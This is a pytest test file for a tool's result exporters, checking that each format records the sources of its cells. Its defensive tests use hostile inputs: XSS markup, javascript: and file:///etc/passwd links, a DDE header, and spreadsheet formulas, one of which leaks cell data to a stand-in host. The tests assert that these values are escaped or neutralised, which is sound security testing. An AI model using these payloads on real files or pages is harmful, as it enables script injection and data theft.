"""Every output format carries the table and, for each cell, its page, quote and agent, or that it is unsupported."""

from __future__ import annotations

import json

import msgspec
import pytest
from openpyxl import load_workbook
from rich.console import Console

from tests.helpers import LIGHTHOUSES, QUESTION
from wideseek.api import Result
from wideseek.errors import BadInput
from wideseek.evidence import Evidence, Levels, trace
from wideseek.export import (
    CsvOptions,
    cells_line,
    check_output,
    legend,
    sources_table,
    summary_line,
    why_not_written,
    with_sources,
    write_result,
)
from wideseek.policy.scripted import LABEL
from wideseek.records import Page, Rollout, Task, Trajectory, Usage
from wideseek.table import Table
from wideseek.terminal import show_result


@pytest.fixture
def result() -> Result:
    pages = [Page(f"https://a.example/{n}", n, f"height: {h}\nyear: {y}") for n, (h, y) in LIGHTHOUSES.items()]
    agents = [Trajectory(role="sub", path=f"lead/2.{i}", read=[page.url]) for i, page in enumerate(pages, 1)]
    rollout = Rollout(task=Task(question=QUESTION), trajectories=agents, pages={page.url: page for page in pages})
    rows = [[name, *facts] for name, facts in LIGHTHOUSES.items()]
    rows[0][2] = "<b>1999 | x</b>"  # on no page
    rows[1][1] = ""
    table = Table(["name", "height", "year"], rows)
    return Result(
        question=QUESTION,
        table=table,
        key=["name"],
        evidence=trace(table, ["name"], rollout),
        rollout=rollout,
        status="partial",
        reason="budget: 5 of 5 model calls",
        usage=Usage(5),
        seconds=1.0,
        label=LABEL,
        notes=["a note"],
    )


@pytest.mark.parametrize("ending", ["md", "csv", "json", "xlsx", "html"])
def test_every_format_says_who_answered_where_each_cell_stands_and_what_is_unsupported(result, tmp_path, ending):
    written = write_result(result, tmp_path / f"out.{ending}")
    if ending == "xlsx":
        cells = [
            cell for sheet in load_workbook(written[0]) for row in sheet.iter_rows(values_only=True) for cell in row
        ]
        text = "\n".join(str(cell) for cell in cells)
    else:
        text = "\n".join(path.read_text() for path in written)
    for expected in ("Dueodde", "https://a.example/Dueodde", "year: 1962", "lead/2.3", "unsupported", LABEL):
        assert expected in text


def test_the_csv_reads_back_as_the_table_with_a_column_of_sources(result, tmp_path):
    write_result(result, tmp_path / "out.csv")
    table = Table.from_csv((tmp_path / "out.csv").read_text())
    assert table.select(["name", "height", "year"]) == result.table
    assert table.rows[0][3] == "https://a.example/Bovbjerg unsupported: year"


def test_the_markdown_reads_back_as_the_table(result, tmp_path):
    write_result(result, tmp_path / "out.md")
    table = Table.from_markdown((tmp_path / "out.md").read_text())
    assert table.select(["name", "height", "year"]) == result.table


def test_the_page_shows_hostile_cells_as_text(result, tmp_path):
    write_result(result, tmp_path / "out.html")
    text = (tmp_path / "out.html").read_text()
    assert "<b>1999" not in text
    assert "&lt;b&gt;1999" in text


def test_the_json_has_one_evidence_per_cell(result, tmp_path):
    write_result(result, tmp_path / "out.json")
    said = json.loads((tmp_path / "out.json").read_text())
    assert [len(row) for row in said["evidence"]] == [len(row) for row in said["rows"]]
    assert said["evidence"][0][2] == {"status": "unsupported"}
    assert said["evidence"][1][1] == {"status": "empty"}
    assert said["cells"] == {
        "wanted": 9,
        "found": 8,
        "supported": 7,
        "mentioned": 0,
        "unsupported": 1,
        "empty": 1,
    }


def test_a_column_called_sources_is_not_overwritten(result):
    result.table = result.table.rename({"year": "Sources"})
    assert with_sources(result)[0].columns[-2:] == ["Sources", "Sources "]


def test_the_sources_table_has_a_row_for_every_cell_that_is_not_empty(result):
    assert len(sources_table(result).rows) == 8


def test_the_summary_says_partial_why_and_the_supported_share(result):
    line = summary_line(result)
    assert "PARTIAL (budget: 5 of 5 model calls)" in line
    assert "3 rows" in line
    assert "8 of 9 cells found, 7 supported, 1 unsupported" in line


@pytest.mark.parametrize(
    ("name", "problem"), [("x.pdf", "known endings"), ("no/such/x.md", "does not exist"), ("x", "known endings")]
)
def test_a_place_that_cannot_be_written_is_known_before_the_run(tmp_path, name, problem):
    with pytest.raises(BadInput, match=problem):
        check_output(tmp_path / name)


def test_checking_a_place_leaves_nothing_there(tmp_path):
    check_output(tmp_path / "x.md")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("width", [20, 40, 80, 200])
def test_no_width_of_the_terminal_loses_a_cell(result, width):
    console = Console(width=width, force_terminal=True, color_system=None, record=True)
    show_result(result, console)
    shown = console.export_text()
    for row in result.table.rows:
        for word in " ".join(row).split():
            assert word in shown
    assert "PARTIAL" in shown


def test_a_pipe_gets_the_markdown_table(result):
    console = Console(width=40, force_terminal=False, record=True)
    show_result(result, console)
    assert Table.from_markdown(console.export_text()).select(["name", "height", "year"]) == result.table


# ------------------------------------------------------------------------------------------------------------- levels


@pytest.fixture
def mentioned(result: Result) -> Result:
    """The same with a cell that is mentioned, one that is tied, and one that a model was asked about."""
    row = result.evidence[2]
    row[1] = Evidence("mentioned", row[1].url, "Dueodde stands 47 m from the road", "lead/2.3", verdict="says nothing")
    row[2] = Evidence("supported", row[2].url, "year: 1962", "lead/2.3", tie="label: year")
    return result


@pytest.mark.parametrize("ending", ["md", "csv", "json", "xlsx", "html"])
def test_every_format_shows_what_is_mentioned_what_ties_a_cell_and_what_a_model_says(mentioned, tmp_path, ending):
    written = write_result(mentioned, tmp_path / f"out.{ending}")
    if ending == "xlsx":
        sheets = load_workbook(written[0])
        text = "\n".join(str(cell) for sheet in sheets for row in sheet.iter_rows(values_only=True) for cell in row)
    else:
        text = "\n".join(path.read_text() for path in written)
    for expected in ("mentioned", "stands 47 m from the road", "label: year", "says nothing"):
        assert expected in text


def test_the_row_names_its_doubts_level_by_level(mentioned):
    rows = with_sources(mentioned)[0].rows
    assert rows[0][-1] == "[1] unsupported: year"
    assert rows[2][-1] == "[3] mentioned: height"
    mentioned.evidence[2] = [mentioned.evidence[2][0], mentioned.evidence[2][1], Evidence("unsupported")]
    assert with_sources(mentioned)[0].rows[2][-1] == "[3] mentioned: height; unsupported: year"


def test_the_row_names_the_cells_that_a_model_contradicts_whatever_their_level(mentioned):
    row = mentioned.evidence[2]
    row[1], row[2] = (msgspec.structs.replace(cell, verdict="contradicts") for cell in row[1:])
    assert with_sources(mentioned)[0].rows[2][-1] == "[3] mentioned: height; a model contradicts: height, year"


def test_supported_in_the_summary_is_the_first_level_only():
    assert cells_line(Levels(25, 1, 1, 3)) == "27 of 30 cells found, 25 supported, 1 mentioned, 1 unsupported"
    assert cells_line(Levels(0, 4, 0, 0)) == "4 of 4 cells found, 0 supported, 4 mentioned"
    assert cells_line(Levels(1_200, 0, 0, 0)) == "1,200 of 1,200 cells found, 1,200 supported"
    assert cells_line(Levels()) == "no cells"


def test_a_mentioned_cell_is_marked_on_the_screen_and_never_green(mentioned):
    console = Console(width=100, force_terminal=True, color_system="standard", record=True)
    show_result(mentioned, console)
    shown = console.export_text(styles=True)
    assert "47 m\x1b[1;36m~" in shown
    assert "1999 | x</b>\x1b[1;33m?" in shown
    mentioned.status = "complete"
    show_result(mentioned, console)
    assert "\x1b[1;33mcomplete" in console.export_text(styles=True)
    plain = Console(width=100, force_terminal=False, record=True)
    show_result(mentioned, plain)
    assert "mentioned: name and value stand together on a page, nothing ties the value" in plain.export_text()


def test_the_page_gives_each_level_a_class_and_says_what_it_means(mentioned, tmp_path):
    text = write_result(mentioned, tmp_path / "out.html")[0].read_text()
    assert '<td class="mentioned" title="mentioned: name and value stand together' in text
    assert 'title="“year: 1962” (tied by label: year, read by lead/2.3)"' in text
    assert '<li><span class="mentioned"></span> mentioned: ' in text


def test_only_levels_that_a_cell_has_are_explained(mentioned):
    assert [mark for mark, _ in legend(mentioned)] == ["~", "?"]
    mentioned.evidence = [[Evidence("supported"), Evidence("empty")]]
    assert legend(mentioned) == []


# --------------------------------------------------------------------------------------------------------- the files


def test_where_one_of_two_files_cannot_be_written_both_stay_as_they_were(result, tmp_path):
    (tmp_path / "out.csv").write_text("yesterday")
    (tmp_path / "out.sources.csv").mkdir()
    with pytest.raises(BadInput, match=r"out\.sources\.csv: cannot be written"):
        write_result(result, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text() == "yesterday"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out.csv", "out.sources.csv"]


def test_what_is_not_worth_a_file_is_told_apart(result):
    assert why_not_written(result) is None
    result.status = "failed"
    assert why_not_written(result) == "the run failed"
    result.status, result.table, result.evidence = "interrupted", Table(["name"]), []
    assert why_not_written(result) == "there is no row"


def test_the_names_of_the_csvs_columns_do_not_depend_on_who_answered(result, tmp_path):
    headers = []
    for label in ("", "nano, a demonstration model", LABEL):
        result.label = label
        files = write_result(result, tmp_path / "out.csv")
        headers.append([path.read_text().partition("\n")[0].strip() for path in files])
    assert headers[0] == headers[1] == headers[2]
    assert headers[0][0] == "name,height,year,Sources"


def spreadsheet(result: Result, name: str, label: str = "") -> Result:
    result.table = Table(["name", "=cmd|'x'!A1"], [[name, "-84"]])
    result.evidence, result.label = [[Evidence("unsupported"), Evidence("unsupported")]], label
    return result


def test_formulas_in_csv_files_are_text_unless_asked_for_raw(result, tmp_path):
    spreadsheet(result, '=HYPERLINK("http://h.example/?"&A1,"Ostra")', "@SUM(1)")
    safe = [path.read_text() for path in write_result(result, tmp_path / "out.csv")]
    cells = [
        cell
        for text in safe
        for table in [Table.from_csv(text)]
        for row in [table.columns, *table.rows]
        for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in "=+-@" and cell not in ("", "-84")] == []
    assert "-84" in cells
    raw = [path.read_text() for path in write_result(result, tmp_path / "raw.csv", CsvOptions(raw=True))]
    assert all('"=HYPERLINK(' in text for text in raw)


def test_a_byte_order_mark_is_written_on_request(result, tmp_path):
    spreadsheet(result, "西安坝")
    for bom in (False, True):
        for path in write_result(result, tmp_path / "out.csv", CsvOptions(bom=bom)):
            assert path.read_bytes().startswith(b"\xef\xbb\xbf") == bom
            assert Table.from_csv(path.read_text(encoding="utf-8-sig")).columns[0] in ("name", "row")


def test_the_workbook_numbers_its_pages_and_its_addresses_can_be_followed(result, tmp_path):
    book = load_workbook(write_result(result, tmp_path / "out.xlsx")[0])
    assert book["table"]["D2"].value == "[1] unsupported: year"
    number, url = book["pages"][2][0], book["pages"][2][1]
    assert (number.value, url.value, url.hyperlink.target) == ("[1]",) + ("https://a.example/Bovbjerg",) * 2
    assert url.data_type == "s"
    linked = [cell for row in book["sources"].iter_rows() for cell in row if cell.hyperlink]
    assert len(linked) == 7
    assert not any(cell.hyperlink for row in book["table"].iter_rows() for cell in row)


def test_only_web_addresses_become_links(result, tmp_path):
    for url in ("javascript:alert(1)", "file:///etc/passwd", "https://a.example/" + "x" * 3_000, "https://a b"):
        result.evidence[0][0] = Evidence("supported", url, "quote", "lead/2.1")
        book = load_workbook(write_result(result, tmp_path / "out.xlsx")[0])
        assert book["sources"]["E2"].value == url
        assert book["sources"]["E2"].hyperlink is None


HOSTILE = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "file:///etc/passwd",
    "data:text/html,x",
    "https://a b",
    "ftp://a.b",
]


@pytest.mark.parametrize("url", HOSTILE)
def test_the_page_and_the_workbook_link_web_addresses_only(result, tmp_path, url):
    for row in result.evidence:
        row[:] = [Evidence("supported", url, "quote", "lead/2.1") for _ in row]
    assert "href" not in write_result(result, tmp_path / "out.html")[0].read_text()
    book = load_workbook(write_result(result, tmp_path / "out.xlsx")[0])
    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)


def test_the_page_escapes_every_place_where_foreign_text_stands(result, tmp_path):
    mark = '<img src=x onerror="alert(1)">\'&'
    result.question, result.notes, result.label = mark, [mark], mark
    result.table = Table([mark], [[mark]])
    result.key, result.evidence = [mark], [[Evidence("supported", f'https://a.example/"><img{mark[4]}', mark, mark)]]
    page = write_result(result, tmp_path / "out.html")[0].read_text()
    assert "<img" not in page
    assert 'onerror="' not in page
    assert page.count("&lt;img") >= 6


@pytest.mark.parametrize(
    "cell", ["=1+1", '=HYPERLINK("http://h.example")', "#N/A", "+47 20", "-5", "@SUM(1)", "1e5", "TRUE"]
)
def test_every_cell_of_a_workbook_is_text(result, tmp_path, cell):
    spreadsheet(result, cell)
    book = load_workbook(write_result(result, tmp_path / "out.xlsx")[0])
    assert book["table"]["A2"].value == cell
    assert {c.data_type for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None} == {"s"}
